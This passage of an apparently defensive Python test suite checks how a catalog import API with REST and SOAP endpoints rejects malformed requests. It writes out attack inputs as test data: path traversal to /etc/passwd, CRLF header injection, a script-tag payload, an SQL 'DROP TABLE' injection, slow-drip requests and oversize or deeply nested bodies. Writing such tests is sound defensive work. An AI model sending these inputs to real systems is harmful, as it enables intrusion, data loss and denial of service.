    *odd("item to write", "PUT /v1/catalogs/spring/items/{}", ITEM_OF_JSON % b"NEW-1", status=400, code="request_invalid", up_overlong=NOWHERE, no_UTF_=NOWHERE),
    *odd("import", "GET /v1/catalogs/spring/imports/{}"),
    *odd("report of an import", "GET /v1/catalogs/spring/imports/{}/report"),
    *odd("tenant of a facade", "POST /soap/tenants/{}/magento", b"<x/>"),
    *odd("facade", "GET /soap/tenants/spring/{}?wsdl"),
    *odd("page of a code", "GET /docs/errors/{}"),
    *odd("page of the documentation", "GET /docs/{}"),
    *odd("cursor", "GET /v1/catalogs/spring/items?cursor={}", status=400, code="request_invalid"),
    *odd("export", "GET /v1/catalogs/spring/export?format={}", status=400, code="request_invalid"),
    Request("up, as it is", "GET /v1/catalogs/../../../etc/passwd", 404, "not_found"),
    Request("an address of another host", "GET http://evil.example/v1/catalogs/nowhere", 404, "not_found"),
    Request("an address that is none", "GET v1/catalogs", 400),
    Request("TRACE", "TRACE /v1/catalogs", 405, "method_not_allowed"),
    Request("CONNECT", "CONNECT evil.example:443", 404, "not_found"),
    Request("a method that is a script", "<script> /v1/catalogs", 400),
    header("a key of 10,000 characters", f"Idempotency-Key: {LONG}", 400, "request_invalid"),
    header("a key beyond ASCII", "Idempotency-Key: \xe4", 400, "request_invalid"),
    header("a key with a tab", "Idempotency-Key: a\tb", 400, "request_invalid"),
    # A bare line feed ends a field: X-Evil is one of the request's, and of no answer.
    header("a key with a line", "Idempotency-Key: a\nX-Evil: 1", 400, "document_malformed"),
    header("a key with a bare return", "Idempotency-Key: a\rX-Evil: 1", 400),
    header("a key with NUL", "Idempotency-Key: a\0b", 400),
    header("a key on two lines", "Idempotency-Key: a\r\n X-Evil: 1", 400),
    header("a key that goes up", "Idempotency-Key: ../../../etc/passwd", 202, None, body=b"[]"),
    header("an empty key", "Idempotency-Key:", 400, "request_invalid", body=b"[]"),
    header("two keys", "Idempotency-Key: a\r\nIdempotency-Key: b", 400, "request_invalid", body=b"[]"),
    header("a request id that is a header", "X-Request-Id: a\r\tX-Evil: 1", 400),
    header("a request id that is a script", "X-Request-Id: <script>alert(1)</script>", 400, "request_invalid", line="GET /v1/catalogs?limit=0"),
    header("a request id of 10,000 characters", f"X-Request-Id: {LONG}", 400, "request_invalid", line="GET /v1/catalogs?limit=0"),
    header("a head of 64 KiB", f"X: {'x' * 65536}", 431),
    header("10,000 fields", "X: x\r\n" * 9_999 + "X: x", 431),
    header("a field's name with a blank", "X : x", 400),
    header("no number to wait", "Prefer: wait=1e400", 400, "request_invalid", body=b"[]"),
    header("a negative wait", "Prefer: wait=-1", 400, "request_invalid", body=b"[]"),
    header("a wait beyond all integers", "Prefer: wait=99999999999999999999", 400, "request_invalid", body=b"[]"),
    header("a mode that is SQL", "X: x", 400, "request_invalid", line=IMPORT.format("spring") + "?mode=merge';DROP%20TABLE%20items;--", body=b"[]"),
    header("a limit beyond all integers", "X: x", 400, "request_invalid", line="GET /v1/catalogs/spring/items?limit=99999999999999999999"),
    header("a limit below nothing", "X: x", 400, "request_invalid", line="GET /v1/catalogs/spring/items?limit=-1"),
    header("a language that is a header", "Accept-Language: de\r\tX-Evil: 1", 400, line="GET /v1/catalogs"),
    header("two sets of credentials", "Authorization: Basic Og==", 401, "unauthenticated", line="GET /v1/catalogs"),
]

# --- What comes too slowly. The server's patience is a second for heads and pauses, three for a whole body. ---

IMPATIENT = {
    "PLUGPOINT__LIMITS__REQUEST_HEAD_TIMEOUT_S": "1",
    "PLUGPOINT__LIMITS__BODY_IDLE_TIMEOUT_S": "1",
    "PLUGPOINT__LIMITS__BODY_TOTAL_TIMEOUT_S": "3",
    "PLUGPOINT__LIMITS__UNREAD_BODY_TIMEOUT_S": "1",
}


@dataclasses.dataclass(frozen=True)
class Slow:
    """A request that never ends: first what comes at once, then a drop each quarter of a second, for ever."""

    name: str
    start: bytes
    drop: bytes
    status: int
    code: str | None = None


CHUNKED_HEAD = b"{credentials}Content-Type: %s\r\nTransfer-Encoding: chunked\r\n\r\n"
REST_HEAD = b"POST /v1/catalogs/slow/imports HTTP/1.1\r\nHost: x\r\n" + CHUNKED_HEAD % b"application/xml"
SOAP_HEAD = b"POST /soap/v1/catalog HTTP/1.1\r\nHost: x\r\n" + CHUNKED_HEAD % b"text/xml"
ANONYMOUS_HEAD = SOAP_HEAD.replace(b"{credentials}", b"")

SLOW = [
    Slow("nothing at all", b"", b"", 0),
    Slow("half a line", b"POST /v1/cata", b"", 0),
    Slow("a head by drops", b"POST /v1/catalogs/slow/imports HTTP/1.1\r\nHost: x\r\n", b"X: x\r\n", 0),
    Slow("a head without an end", b"POST /v1/catalogs/slow/imports HTTP/1.1\r\nHost: x\r\nX: ", b"x", 0),
    Slow("a body that does not come", REST_HEAD, b"", 408, "request_timeout"),
    Slow("a body that stops", REST_HEAD + b"7\r\n<items>\r\n", b"", 408, "request_timeout"),
    Slow("a body by drops", REST_HEAD + b"7\r\n<items>\r\n", b"1\r\n \r\n", 408, "request_timeout"),
    Slow("a chunk's size by drops", REST_HEAD + b"7;", b"x", 408, "request_timeout"),
    Slow("a message that does not come", SOAP_HEAD, b"", 500, "request_timeout"),
    Slow("a message by drops", SOAP_HEAD + b"3e8\r\n", b" ", 500, "request_timeout"),
    Slow("a message by drops, of nobody", ANONYMOUS_HEAD + b"3e8\r\n", b" ", 500, "request_timeout"),
    Slow("an answer that nobody reads", REST_HEAD.replace(b"slow", b"a%20b"), b"1\r\n \r\n", 404, "not_found"),
]

# --- Records that are larger than any is ---


PRICE = b"<prices><kind>list</kind><amount>1</amount><currency>EUR</currency></prices>"
PRICE_OF_JSON = b'{"kind":"list","amount":"1","currency":"EUR"}'


def oversize() -> Iterator[Document]:
    too_many, too_large = failed("too_many_rejected", "field_length"), failed("too_many_rejected", "record_too_large")
    yield Document("100,000 prices of an item", Big(b"<items><item><sku>NEW-1</sku>", PRICE, 100_000, item().removeprefix(b"<item><sku>NEW-1</sku>") + b"</items>"), by(too_large, REST), memory_mib=96)
    yield Document("100,000 prices of an item in JSON", Big(b'[{"sku":"NEW-1","texts":[{"lang":"en","title":"New"}],"prices":[', PRICE_OF_JSON + b",", 100_000, PRICE_OF_JSON + b"]}]"),
                   by(too_many, REST), JSON, memory_mib=96)
    yield Document("an item of 20 MB", Big(b"<items><item><sku>NEW-1</sku>", b"<brand>" + b"x" * 1000 + b"</brand>", 20_000, b"</item>" + item() + b"</items>"),
                   by(stored("New", findings=("record_too_large",)), REST), memory_mib=96)
    yield Document("an item of 20 MB in JSON", Big(b'[{"sku":"NEW-1","brand":"', b"x" * 1000, 20_000, b'"},{"sku":"NEW-2","texts":[{"lang":"en","title":"New"}]}]'),
                   by(stored("New", findings=("record_too_large",)), REST), JSON, memory_mib=96)
    yield Document("a line of 20 MB", Big(b'{"sku":"', b"x" * 1000, 20_000, b'"}\n{"sku":"NEW-2","texts":[{"lang":"en","title":"New"}]}\n'),
                   by(stored("New", findings=("record_too_large",)), REST), NDJSON, memory_mib=96)
    yield Document("a cell of 20 MB", Big(b'sku,title,lang\nNEW-1,"', b"x" * 1000, 20_000, b'",en\nNEW-2,New,en\n'), by(stored("New", findings=("record_too_large",)), REST), CSV, memory_mib=96)
    yield Document("a quote that never ends", Big(b'sku,title,lang\nNEW-1,"', b"x\n" * 500, 20_000), by(failed(MALFORMED), REST), CSV, memory_mib=96)
    yield Document("100,000 empty items", Big(b"<items>", b"<item/>", 100_000, b"</items>"), by(failed("too_many_rejected", "sku_missing"), REST))
    yield Document("100,000 empty items in JSON", Big(b"[", b"{},", 99_999, b"{}]"), by(failed("too_many_rejected", "sku_missing"), REST), JSON)
    yield Document("100,000 levels of JSON", Big(b"[", b'{"a":[', 50_000, b""), by(failed(LIMIT), REST), JSON)
    yield Document("100,000 levels in a record of JSON", Big(b'[{"sku":"NEW-1","x":', b"[", 100_000, b"]" * 100_000 + b"}]"), by(failed(LIMIT), REST), JSON)


OVERSIZE = [*oversize()]

DOCUMENTS = DOCTYPES + SIZES + DUPLICATES + PREFIXES + ENCODINGS + CHARACTERS + MARKUP + OVERSIZE
